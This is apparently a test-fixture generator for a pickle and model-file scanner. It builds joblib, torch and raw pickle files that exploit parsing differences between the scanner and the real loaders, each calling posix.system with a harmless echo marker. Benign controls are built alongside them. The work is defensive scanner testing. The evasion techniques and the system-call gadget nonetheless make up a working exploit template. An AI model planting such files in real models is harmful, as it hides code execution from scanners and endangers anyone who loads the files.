#!/usr/bin/python3
"""Writes samples/pickle-differentials/: pickles that real loaders read differently from a
scanner that once called them `clean`, and benign files from the same loaders.

- joblib_scalar.joblib: a joblib NumpyArrayWrapper passed through numpy's
  `scalar(dtype('O'), wrapper)` (which returns the wrapper). joblib's NumpyUnpickler reads the
  array data after the BUILD (an isinstance test); a reading that does not know the wrapper
  parses those bytes as opcodes (a BINBYTES that swallows the payload joblib runs).
- joblib_memo.pkl: the wrapper memoised after 65,536 + 262,144 memo entries (past the scanner's
  memo budgets), fetched back by LONG_BINGET, then built: the same desync if the memo drops it.
- torch_legacy_tail.pt: a legacy torch.save layout whose magic number is spelled as a protocol 0
  `L` line and whose next pickles start with LONG1 and use `p1_0` (PUT 10, underscores accepted
  by CPython): torch.load reads all five pickles and runs the fourth.
- rawunicode_nested.pkl / rawunicode_model.pt: a UNICODE (`V`) line whose `\\\\u0041` runs CPython's
  raw-unicode-escape keeps as seven characters; the str is encoded to bytes
  (`_codecs.encode(s, 'latin1')`) and handed to `torch.storage._load_from_bytes`. Decoding every
  `\\uXXXX` shortens the nested pickle so a BINBYTES swallows the payload.
- benign_*: files written by joblib.dump, legacy torch.save and pickle.dumps(protocol=0) of strs
  with backslashes (must stay clean).

Every malicious sample is LOADED here with its real loader in a subprocess (joblib.load,
torch.load, pickle.loads) and the harmless payload (`echo modelgate-pickle-differential`) is
asserted to have run; every benign one is loaded and asserted not to print it. Run from the
repository root with /usr/bin/python3.
"""
import io
import json
import os
import struct
import subprocess
import sys
import zipfile

OUT = os.path.join("samples", "pickle-differentials")
MARK = "modelgate-pickle-differential"
CMD = f"echo {MARK}".encode()
expected = {}


def put(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def expect(name, verdict, rules=(), absent=()):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"pickle-differentials/{name}"] = entry


def loads_with(loader, name):
    """Loads the sample in a fresh interpreter; returns whether the payload printed its mark."""
    path = os.path.abspath(os.path.join(OUT, name))
    code = {
        "joblib": f"import joblib; joblib.load({path!r})",
        "torch": f"import torch; torch.load({path!r})",
        "pickle": f"import pickle, torch; pickle.loads(open({path!r}, 'rb').read())",
    }[loader]
    r = subprocess.run([sys.executable, "-W", "ignore", "-c", code], capture_output=True, text=True, timeout=300)
    return MARK in r.stdout


SYSTEM = b"cposix\nsystem\n(S'" + CMD + b"'\ntR"
# the 5 bytes joblib reads as a u1[5] array; a reading that parses opcodes sees a BINBYTES header
DATA = b"B" + struct.pack("<I", len(SYSTEM) + 1)
STATE = (
    b"(X\x08\x00\x00\x00subclasscnumpy\nndarray\n"
    b"X\x05\x00\x00\x00shapeK\x05\x85"
    b"X\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
    b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX\x02\x00\x00\x00u1\x89\x88\x87R"
    b"X\x0a\x00\x00\x00allow_mmap\x89db"
)
WRAPPER = b"ccopyreg\n__newobj__\ncjoblib.numpy_pickle\nNumpyArrayWrapper\n\x85R"


def joblib_scalar():
    p = b"\x80\x02cnumpy.core.multiarray\nscalar\n"
    p += b"cnumpy\ndtype\nX\x01\x00\x00\x00O\x89\x88\x87R"
    p += WRAPPER + b"\x86R" + STATE + DATA + SYSTEM + b"0."
    return p


def joblib_memo():
    fill = 65536 + 4 * 65536
    p = b"\x80\x04cbuiltins\nint\n\x94" + b"2\x94" * (fill - 1) + b"0"
    p += WRAPPER + b"\x940" + b"j" + struct.pack("<I", fill)
    p += b"}" + STATE.replace(b"db", b"ub")
    return p + DATA + SYSTEM + b"0."


def joblib_read_array():
    """read_array set on the wrapper instance: joblib calls it (slice(unpickler)) and reads no
    inline data, so the bytes a layout reading would skip as the array run as opcodes."""
    assert len(SYSTEM) < 256
    state = STATE.replace(b"shapeK\x05", b"shapeK" + bytes([len(SYSTEM)])).replace(
        b"db", b"X\x0a\x00\x00\x00read_arraycbuiltins\nslice\ndb"
    )
    return b"\x80\x02" + WRAPPER + state + SYSTEM + b"0N."


def torch_legacy_tail():
    magic = b"L119547037146038801333356L\n."  # 0x1950a86a20f9469cfc6c, protocol 0
    proto = b"\x8a\x02\xe9\x03" + b"p1_0\n" + b"."  # 1001, PUT 10
    return magic + proto + b"}." + SYSTEM + b"." + b"]. "


def raw_unicode_nested():
    k = 12
    region = b"0" + SYSTEM
    pad = 5 * k - len(region)
    assert pad >= 0
    region += b"N0" * (pad // 2) + (b"N" if pad % 2 else b"")

    def esc(bs):  # text both readings decode to these bytes
        out = ""
        for b in bs:
            c = chr(b)
            out += "\\u%04x" % b if c in "\\\n\r" or b < 0x20 or b >= 0x7F else c
        return out

    text = esc(b"\x80\x02B" + struct.pack("<I", 7 * k)) + ("\\\\u0041" * k) + esc(region) + esc(b".")
    p = b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n"
    p += b"V" + text.encode("latin1") + b"\n"
    p += b"X\x06\x00\x00\x00latin1\x86R\x85R."
    return p


def torch_zip(pkl):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/version", "3\n")
    return b.getvalue()


def benign():
    import joblib
    import numpy as np
    import torch
    import pickle

    joblib.dump({"w": np.arange(12, dtype=np.float64).reshape(3, 4), "names": ["a", "b"]}, os.path.join(OUT, "benign_arrays.joblib"))
    joblib.dump([np.array([b"x", None], dtype=object), np.float32(1.5)], os.path.join(OUT, "benign_objects.joblib"))
    torch.save({"t": torch.arange(6.0)}, os.path.join(OUT, "benign_legacy.pt"), _use_new_zipfile_serialization=False)
    put("benign_backslashes.pkl", pickle.dumps(["a\\u0041", "\\\\u00e9", "\u00e9\\", "x\\U0001F600"], protocol=0))


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    cases = [
        ("joblib_scalar.joblib", joblib_scalar(), "joblib"),
        ("joblib_memo.pkl", joblib_memo(), "joblib"),
        ("joblib_read_array.joblib", joblib_read_array(), "joblib"),
        ("torch_legacy_tail.pt", torch_legacy_tail(), "torch"),
        ("rawunicode_nested.pkl", raw_unicode_nested(), "pickle"),
        ("rawunicode_model.pt", torch_zip(raw_unicode_nested()), "torch"),
    ]
    for name, data, loader in cases:
        put(name, data)
        assert loads_with(loader, name), f"{name}: {loader} did not run the payload"
        if name == "joblib_read_array.joblib":
            # what the instance's read_array reads is unknown: the reading stops there (fail
            # closed), and the sweep of the rest of the stream finds the payload it runs
            expect(name, "malicious", ["joblib/array-layout", "pickle/dangerous-global"])
        else:
            expect(name, "malicious", ["pickle/dangerous-global"])
    benign()
    for name, loader in [
        ("benign_arrays.joblib", "joblib"),
        ("benign_objects.joblib", "joblib"),
        ("benign_legacy.pt", "torch"),
        ("benign_backslashes.pkl", "pickle"),
    ]:
        assert not loads_with(loader, name), f"{name}: printed the mark"
        expect(name, "clean")
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
        f.write("\n")
    print(f"wrote {len(expected)} samples to {OUT}")


if __name__ == "__main__":
    main()
